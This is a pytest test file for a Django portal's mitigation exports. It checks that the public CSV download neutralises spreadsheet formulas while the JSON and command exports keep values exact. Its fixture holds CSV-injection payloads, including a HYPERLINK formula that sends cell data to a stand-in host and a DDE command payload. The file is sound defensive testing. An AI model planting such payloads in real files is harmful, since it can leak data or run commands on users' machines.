"""The public CSV download neutralises spreadsheet formulas; the JSON download and the
export command keep every value exactly (they are re-imported)."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client

from portal.lib.spreadsheet import safe_cell
from tests.factories import FigureFactory, MitigationFactory

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "definition": "+cmd|' /C calc'!A0",
    "reasoning": "-2+3",
    "additional_information": "@SUM(1)",
}


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.2", "-3.2"),
        ("+7", "+7"),
        ("-1e5", "-1e5"),
        ("12", "12"),
        ("plain", "plain"),
        (None, ""),
        (Decimal("-12.5"), "-12.5"),
        ("-", "'-"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_public_csv_neutralises_formulas_but_keeps_numbers():
    m = MitigationFactory(code="F1", **HOSTILE)
    FigureFactory(mitigation=m, key="k", label="=1+2", value=Decimal("-3.2"), preliminary=False)
    response = Client().get("/mitigations/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = rows[0]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value
    assert row["figure_label"] == "'=1+2"
    assert row["figure_value"] == "-3.2"


@pytest.mark.django_db
def test_json_download_and_export_command_stay_exact(tmp_path):
    m = MitigationFactory(code="F1", **HOSTILE)
    FigureFactory(mitigation=m, key="k", label="=1+2", value=Decimal("-3.2"), preliminary=False)
    data = json.loads(Client().get("/mitigations/export.json").content)
    assert data["mitigations"][0]["name"] == HOSTILE["name"]
    assert data["figures"][0]["label"] == "=1+2"

    call_command("export_mitigations", str(tmp_path / "out"), stdout=io.StringIO())
    with (tmp_path / "out" / "mitigations.csv").open(encoding="utf-8", newline="") as f:
        exported = next(csv.DictReader(f))
    for column, value in HOSTILE.items():
        assert exported[column] == value
